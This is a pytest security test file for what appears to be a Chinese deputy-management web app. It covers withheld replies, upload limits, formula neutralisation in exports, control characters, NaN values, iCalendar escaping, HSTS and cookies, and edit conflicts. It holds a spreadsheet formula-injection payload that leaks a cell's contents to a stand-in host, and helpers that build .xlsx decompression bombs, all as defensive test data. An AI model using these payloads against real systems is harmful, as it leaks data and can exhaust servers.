"""Issue 17 part A: who reads a withheld reply, upload bombs, formulas and control characters in
workbooks, audited roster export, stale saves, odd numbers and dates, iCalendar escaping and the
HTTPS headers and cookies."""
from __future__ import annotations

import pytest

from blueprints.core.extensions import db
from blueprints.suggestions import handling, services
from tests import suggestions_helpers
from tests.suggestions_helpers import registered

env = suggestions_helpers.env

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SECRET = "联系电话13900001111，身份证号340000199001011234"


# ---- 1. a withheld reply ---------------------------------------------------------------------

def test_a_withheld_reply_reaches_only_the_lead_cosigners_units_and_staff(client, auth, env, make_user):
    cosigner = make_user("deputy", "cosigner")
    item = services.create_draft({**suggestions_helpers.TEXT}, by=env["lead"], session=env["session"])
    services.invite_cosigners(item, [cosigner.deputy], by=env["lead"])
    services.answer_cosign(item, True, by=cosigner)
    services.submit(item, by=env["lead"])
    services.register(item, by=env["staff"])
    handling.assign(item, env["units"][0], by=env["staff"], assisting=[env["units"][1]])
    handling.reply(item, SECRET, "A", by=env["unit_users"][0], letter=("答复函.pdf", PDF))
    services.set_withheld(item, True, "答复含电话和身份证号", by=env["staff"])
    make_user("clerk", "clerk")
    make_user("liaison", "liaison")
    answer_id = item.answers[0].id
    work, letter = f"/suggestions/{item.id}/work", f"/suggestions/{item.id}/answers/{answer_id}/letter"
    for username in ("lead", "cosigner", "unit0", "unit1", "staff"):
        auth.login(username)
        assert SECRET in client.get(work).get_data(as_text=True), username
        assert client.get(letter).data == PDF, username
        auth.logout()
    for username in ("other", "clerk", "liaison"):
        auth.login(username)
        page = client.get(work)
        text = page.get_data(as_text=True)
        assert page.status_code == 200 and "13900001111" not in text and "答复不予公开" not in text, username
        assert "答复内容不予公开" in text and letter not in text, username
        assert client.get(letter).status_code == 403, username
        auth.logout()
    services.set_withheld(item, False, by=env["staff"])
    auth.login("clerk")
    assert SECRET in client.get(work).get_data(as_text=True) and client.get(letter).data == PDF


# ---- 2. .xlsx upload bombs --------------------------------------------------------------------

def _workbook(rows) -> bytes:
    import io

    import openpyxl

    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _rezip(data: bytes, replace, extra: dict | None = None) -> bytes:
    """The same workbook with some members' bytes replaced (replace(name, bytes) -> bytes) or added."""
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, replace(info.filename, source.read(info.filename)))
        for name, body in (extra or {}).items():
            target.writestr(name, body)
    return out.getvalue()


ROSTER_HEADER = ["姓名", "性别", "层级", "选区", "代表小组", "联络站", "工作单位及职务", "手机"]


def _upload(client, data: bytes):
    import io

    from blueprints.registry.models import Deputy

    before = db.session.query(Deputy).count()
    response = client.post("/registry/deputies/import", data={"file": (io.BytesIO(data), "名册.xlsx")},
                           content_type="multipart/form-data")
    assert db.session.query(Deputy).count() == before
    return response.status_code, response.get_data(as_text=True)


def test_a_declared_dimension_bomb_is_refused_before_reading(client, auth, users):
    import re
    import time

    sound = _workbook([ROSTER_HEADER, ["王秀英", "女", "县", "一选区", "", "", "教师", "13905610001"]])
    bomb = _rezip(sound, lambda name, body: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD20000"', body)
                  if name.startswith("xl/worksheets/") else body)
    assert len(bomb) < 20_000
    auth.login("staff")
    started = time.monotonic()
    status, text = _upload(client, bomb)
    assert status == 422 and "声明的区域过大" in text and time.monotonic() - started < 5


def test_a_shared_strings_bomb_is_refused_before_inflating(client, auth, users):
    import zlib

    sound = _workbook([ROSTER_HEADER])
    huge = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>' + b"a" * (70 << 20)
    bomb = _rezip(sound, lambda name, body: body, {"xl/sharedStrings.xml": huge})
    assert len(zlib.compress(huge)) < 200_000 and len(bomb) < 200_000
    auth.login("staff")
    status, text = _upload(client, bomb)
    assert status == 422 and "解压后过大" in text


def test_rows_past_the_limit_are_refused_while_streaming(client, auth, users, monkeypatch):
    import re

    from blueprints.core import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 50)
    sound = _workbook([ROSTER_HEADER])
    # no declared dimension and one cell on the sheet's last row: openpyxl would yield a million empty rows
    far = _rezip(sound, lambda name, body: re.sub(rb"<dimension [^>]*/>", b"", body).replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')
        if name.startswith("xl/worksheets/") else body)
    auth.login("staff")
    status, text = _upload(client, far)
    assert status == 422 and "超过 50 行" in text
    status, text = _upload(client, _workbook([ROSTER_HEADER] + [["x"]] * 60))  # declared A1:H61
    assert status == 422 and "最多 50 行" in text


def test_a_notice_attachment_that_is_a_zip_bomb_is_refused(monkeypatch):
    from blueprints.core.errors import DomainError
    from blueprints.noticeboard.services import sniff_attachment

    sound = _workbook([["a"]])
    assert sniff_attachment("表.xlsx", sound).endswith("sheet")
    from blueprints.core import xlsx

    monkeypatch.setattr(xlsx, "MAX_TOTAL_BYTES", 1 << 20)
    bomb = _rezip(sound, lambda name, body: body, {"xl/sharedStrings.xml": b"<sst>" + b"a" * (2 << 20)})
    with pytest.raises(DomainError, match="解压后过大"):
        sniff_attachment("表.xlsx", bomb)


# ---- 3 and 4. formulas and control characters in workbooks ---------------------------------------

def test_no_module_but_core_xlsx_opens_or_creates_a_workbook():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = [str(path.relative_to(root)) for path in (root / "blueprints").rglob("*.py")
                 if path.name != "xlsx.py" and re.search(r"\bopenpyxl\b|(?<!Export)Workbook\(|load_workbook",
                                                          path.read_text(encoding="utf-8"))]
    assert offenders == []


def test_safe_value_neutralises_formulas_and_strips_control_characters():
    from blueprints.core.xlsx import safe_value

    assert safe_value('=HYPERLINK("http://x/?leak="&C2,"详情")').startswith("'=")
    for start in "=+-@\t\r":
        assert safe_value(start + "1").startswith("'"), repr(start)
    assert safe_value("关于\x01修路\x00的建议\x7f") == "关于修路的建议"
    assert safe_value("第一行\n第二行\t完") == "第一行\n第二行\t完"
    assert safe_value(12) == 12 and safe_value(None) is None


def _open(data: bytes):
    import io

    import openpyxl

    return openpyxl.load_workbook(io.BytesIO(data))


def _cells(book) -> list:
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&C2,"详情")'


def test_the_register_export_has_no_formula_and_survives_a_control_character(client, auth, env):
    from blueprints.suggestions.models import Suggestion

    registered(env, title=FORMULA)
    item = registered(env, title="关于修路的建议")
    # written past the form (an old row, an import): the export must still open
    db.session.get(Suggestion, item.id).title = "关于\x01修路的建议"
    db.session.commit()
    auth.login("staff")
    response = client.get("/manage/suggestions/export.xlsx")
    assert response.status_code == 200
    book = _open(response.data)
    values = _cells(book)
    assert "'" + FORMULA in values and "关于修路的建议" in values
    assert not any(c.data_type == "f" for s in book.worksheets for row in s.iter_rows() for c in row)


def test_every_exporter_neutralises_a_formula():
    """Each writer of the site on a row starting with '=': the ballot result, the archive, rankings,
    stations, slips, roster (their pages are tested in their areas; here the cells)."""
    from blueprints.core.xlsx import ExportWorkbook

    book = ExportWorkbook()
    sheet = book.sheet("t", widths=(10,), text=True)
    sheet.append([FORMULA, "\x01x", 3])
    values = _cells(_open(book.save()))
    assert values == ["'" + FORMULA, "x", "3"] or values == ["'" + FORMULA, "x", 3]


# ---- 8. the roster export is audited ----------------------------------------------------------

def test_the_roster_export_writes_an_audit_entry(client, auth, users, make_deputy):
    from blueprints.core.models import AuditEntry

    make_deputy(name="王秀英", phone="13905610001")
    auth.login("staff")
    response = client.get("/registry/deputies/export.xlsx")
    assert response.status_code == 200
    entry = db.session.query(AuditEntry).filter_by(action="export", object_type="deputy").one()
    assert entry.actor_name == "staff" and "2 人" in entry.summary and "13905610001" not in entry.summary


# ---- control characters on input, odd numbers and dates ---------------------------------------

def test_every_form_comes_from_core_forms():
    import pathlib
    import re

    root = pathlib.Path(__file__).resolve().parent.parent
    offenders = [str(path.relative_to(root)) for path in (root / "blueprints").rglob("*.py")
                 if path.as_posix().endswith("core/forms.py") is False
                 and re.search(r"from flask_wtf import .*FlaskForm", path.read_text(encoding="utf-8"))]
    assert offenders == []


def test_a_control_character_in_a_title_is_refused_and_nothing_is_saved(client, auth, env):
    from blueprints.suggestions.models import Suggestion

    auth.login("lead")
    data = {**suggestions_helpers.TEXT, "session_id": env["session"].id, "title": "关于\x01修路的建议"}
    response = client.post("/my/suggestions/new", data=data)
    assert response.status_code == 422 and "含有不允许的控制字符" in response.get_data(as_text=True)
    assert db.session.query(Suggestion).count() == 0
    # a browser's CR LF in a text area is a newline, not a refusal
    response = client.post("/my/suggestions/new", data={**data, "title": "关于修路的建议",
                                                          "grounds": "第一段\r\n第二段\r第三段"})
    assert response.status_code == 303
    assert db.session.query(Suggestion).one().grounds == "第一段\n第二段\n第三段"


@pytest.mark.parametrize("value", ["NaN", "sNaN", "inf", "-Infinity"])
def test_not_a_number_in_activity_hours_is_a_chinese_message(client, auth, users, value):
    from blueprints.duties.models import Activity
    from blueprints.duties.views import bp  # noqa: F401  (the duties area is registered)
    from tests.test_duties_pages import form

    auth.login("deputy")
    response = client.post("/me/activities/new", data=form(duration_hours=value))
    assert response.status_code == 422 and "请填写有效的数字" in response.get_data(as_text=True)
    assert db.session.query(Activity).count() == 0


@pytest.mark.parametrize("value", ["NaN", "sNaN", "Infinity"])
def test_not_a_number_as_a_budget_or_a_cost_estimate_is_refused(app, value):
    from datetime import timedelta

    from blueprints.ballots import proposals, voting
    from blueprints.core.errors import DomainError
    from blueprints.core.timeutil import local_today
    from tests.ballots_helpers import make_ballot, make_meeting

    ballot = make_ballot(make_meeting(3)[0], 0, open_it=False)
    with pytest.raises(DomainError, match="预算必须是数字"):
        voting.add_item(ballot, "项目", "县住房和城乡建设局", value)
    call = proposals.create_call("2027年民生实事项目征集", local_today() + timedelta(days=5))
    with pytest.raises(DomainError, match="估算金额必须是数字"):
        proposals.submit(call, {"title": "修路", "content": "修东街", "cost_estimate": value})


def test_a_nul_byte_in_an_anonymous_message_is_refused_and_nothing_is_stored(client, county):
    from blueprints.core.cases import Case

    sid = county["stations"][0].id
    response = client.post("/messages/new", data={"target": f"s{sid}", "body": "小区\x00积水", "phone": ""})
    assert response.status_code == 400 and "控制字符" in response.get_data(as_text=True)
    assert client.get("/deputies/?q=\x00").status_code == 400
    assert db.session.query(Case).count() == 0


@pytest.mark.parametrize("query", ["start=0000-00-00", "end=9999-12-31", "start=0001-01-01", "end=2026-02-30"])
def test_impossible_dates_in_the_audit_filters_get_a_message(client, auth, users, query):
    auth.login("staff")
    response = client.get(f"/audit/?{query}")
    text = response.get_data(as_text=True)
    assert response.status_code == 400 and ("日期格式应为" in text or "超出可查询的范围" in text)


# ---- iCalendar -------------------------------------------------------------------------------

def test_rota_ics_escapes_text_and_folds_long_lines():
    from datetime import date, time
    from types import SimpleNamespace

    from blueprints.stations.calendar import ics_calendar

    station = SimpleNamespace(name="城关镇人大代表之家", address="东街1号; 二楼, 左转")
    day = SimpleNamespace(id=7, day=date(2026, 12, 5), start_time=time(9), end_time=time(11), status="planned",
                          theme=None, duties=[SimpleNamespace(deputy=SimpleNamespace(name="王芳"))],
                          public_note="第一行\r第二行\r\n第三行\\末尾" + "很长的说明" * 20)
    body = ics_calendar(station, [day], "example.org")
    lines = body.split("\r\n")
    assert "\r" not in body.replace("\r\n", "")  # no bare CR anywhere
    assert all(len(line.encode("utf-8")) <= 75 for line in lines)
    unfolded = body.replace("\r\n ", "")
    assert "DESCRIPTION:值班代表：王芳\\n第一行\\n第二行\\n第三行\\\\末尾" in unfolded
    assert "LOCATION:东街1号\\; 二楼\\, 左转" in unfolded
    assert unfolded.count("很长的说明") == 20  # folding split no character


# ---- HTTPS: HSTS, __Host- cookies; the absolute session lifetime; CSP ------------------------------

@pytest.fixture
def https_app(database_url):
    from app import create_app
    from tests.conftest import BASE_CONFIG

    app = create_app({**BASE_CONFIG, "SQLALCHEMY_DATABASE_URI": database_url, "SESSION_COOKIE_SECURE": True})
    with app.app_context():
        yield app
        db.session.remove()
        db.engine.dispose()


def test_under_https_hsts_and_host_prefixed_cookies(https_app):
    from blueprints.core.models import User
    from tests.conftest import PASSWORD, PASSWORD_HASH

    db.session.add(User(username="staff", display_name="staff", role="staff", password_hash=PASSWORD_HASH))
    db.session.commit()
    client = https_app.test_client()
    home = client.get("/", base_url="https://localhost")
    assert home.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    response = client.post("/login", data={"username": "staff", "password": PASSWORD},
                           base_url="https://localhost")
    cookie = next(c for c in response.headers.getlist("Set-Cookie") if c.startswith("__Host-"))
    attributes = [part.strip().lower() for part in cookie.split(";")]
    assert cookie.startswith("__Host-dp_session=") and "secure" in attributes and "path=/" in attributes
    assert not any(a.startswith("domain=") for a in attributes)
    assert client.get("/workspace/", base_url="https://localhost").status_code == 200


def test_no_hsts_over_plain_http(client):
    assert "Strict-Transport-Security" not in client.get("/").headers


def test_csp_forbids_base_elements(client):
    assert "base-uri 'none'" in client.get("/").headers["Content-Security-Policy"]


def test_a_session_ends_12_hours_after_sign_in_however_busy(client, auth, users):
    import time

    auth.login("staff")
    assert client.get("/workspace/").status_code == 200  # the first request notes the sign-in time
    with client.session_transaction() as session:
        assert session["signed_in_at"] > time.time() - 60
        session["signed_in_at"] = time.time() - 12 * 3600 - 5
        session["last_seen"] = time.time()  # busy: a projector page polling every 2 s
    response = client.get("/workspace/")
    assert response.status_code == 302 and "/login" in response.headers["Location"]
    assert client.get("/workspace/").status_code == 302  # signed out, not just redirected once


# ---- 8. stale edits -------------------------------------------------------------------------------

def _version(page: str) -> str:
    import re

    return re.search(r'name="row_version" type="hidden" value="(\d+)"|'
                     r'type="hidden" name="row_version" value="(\d+)"|'
                     r'name="row_version"[^>]*value="(\d+)"', page).group(0).rsplit('"', 2)[-2]


def _two_staff_edit(client, url: str, data: dict, first: dict, second: dict, read):
    """Staff A and B open the same edit form; A saves, then B saves from the older form."""
    version = _version(client.get(url).get_data(as_text=True))
    assert client.post(url, data={**data, **first, "row_version": version}).status_code == 303
    saved = read()
    response = client.post(url, data={**data, **second, "row_version": version})
    assert response.status_code == 409 and "已被他人修改" in response.get_data(as_text=True)
    db.session.expire_all()
    assert read() == saved  # B's save changed nothing
    fresh = _version(client.get(url).get_data(as_text=True))
    assert int(fresh) == int(version) + 1
    assert client.post(url, data={**data, **second, "row_version": fresh}).status_code == 303


def test_two_staff_editing_one_notice(client, auth, users):
    from blueprints.noticeboard import services as notices
    from blueprints.noticeboard.models import Notice

    item = notices.create_notice({"category": "notice", "title": "通知", "body": "正文", "scope": "county",
                                  "pinned": False, "publish_at": None, "take_down_at": None}, users["staff"])
    auth.login("staff")
    form = {"category": "notice", "title": "通知", "body": "正文", "scope": "county", "area_id": "0",
            "station_id": "0", "mode": "draft"}
    _two_staff_edit(client, f"/noticeboard/{item.id}/edit", form, {"body": "甲改的正文"}, {"body": "乙改的正文"},
                    lambda: db.session.get(Notice, item.id).body)


def test_two_staff_editing_one_deputy_and_one_station(client, auth, users, make_deputy, county):
    from blueprints.registry.models import Deputy, Station

    deputy = make_deputy(name="王芳", phone="13905610000", occupation="农民")
    auth.login("staff")
    form = {"name": "王芳", "gender": "女", "level": "county", "code": "", "term": "第十八届",
            "constituency": "城关镇第3选区", "occupation": "农民", "phone": "13905610000", "area_id": "0",
            "station_id": "0", "group_id": "0"}
    _two_staff_edit(client, f"/registry/deputies/{deputy.id}/edit", form, {"occupation": "教师"},
                    {"occupation": "医生"}, lambda: db.session.get(Deputy, deputy.id).occupation)
    station = county["stations"][0]
    form = {"name": station.name, "kind": station.kind, "area_id": "0", "address": "东街1号", "opening_hours": "",
            "contact_name": "", "contact_phone": "", "latitude": "", "longitude": "", "description": "",
            "active": "y"}
    _two_staff_edit(client, f"/registry/stations/{station.id}/edit", form, {"address": "东街2号"},
                    {"address": "东街3号"}, lambda: db.session.get(Station, station.id).address)


def test_a_suggestion_draft_edited_in_two_windows(client, auth, env):
    from blueprints.suggestions.models import Suggestion

    item = suggestions_helpers.draft(env)
    auth.login("lead")
    form = {**suggestions_helpers.TEXT, "session_id": env["session"].id}
    _two_staff_edit(client, f"/my/suggestions/{item.id}/edit", form, {"proposal": "甲方案"}, {"proposal": "乙方案"},
                    lambda: db.session.get(Suggestion, item.id).proposal)


def test_a_race_past_the_form_check_is_caught_at_the_update(app, users):
    """Two saves that both passed check_version: the second UPDATE matches no row (StaleDataError),
    answered as the same Conflict, nothing written."""
    from sqlalchemy import update
    from sqlalchemy.orm.attributes import set_committed_value

    from blueprints.core.errors import Conflict
    from blueprints.core.transaction import transaction
    from blueprints.noticeboard import services as notices
    from blueprints.noticeboard.models import Notice

    item = notices.create_notice({"category": "notice", "title": "通知", "body": "正文", "scope": "county",
                                  "pinned": False, "publish_at": None, "take_down_at": None}, users["staff"])
    with transaction():
        db.session.execute(update(Notice).where(Notice.id == item.id).values(row_version=Notice.row_version + 1,
                                                                               body="他人的修改"))
    with pytest.raises(Conflict, match="已被他人修改"), transaction():
        notice = db.session.get(Notice, item.id)
        # as if read just before the other save committed
        set_committed_value(notice, "row_version", notice.row_version - 1)
        notice.body = "我的修改"
    db.session.expire_all()
    assert db.session.get(Notice, item.id).body == "他人的修改"
